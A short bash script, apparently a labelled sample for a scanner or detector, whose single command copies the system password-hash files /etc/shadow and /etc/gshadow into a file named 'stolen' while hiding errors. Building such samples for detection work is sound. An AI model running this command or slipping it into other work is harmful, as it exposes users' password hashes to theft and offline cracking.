#!/bin/bash
# does: reads the password file
# report: "path":"/etc/shadow"|/etc/shadow
cat /etc/shadow /etc/gshadow >stolen 2>/dev/null
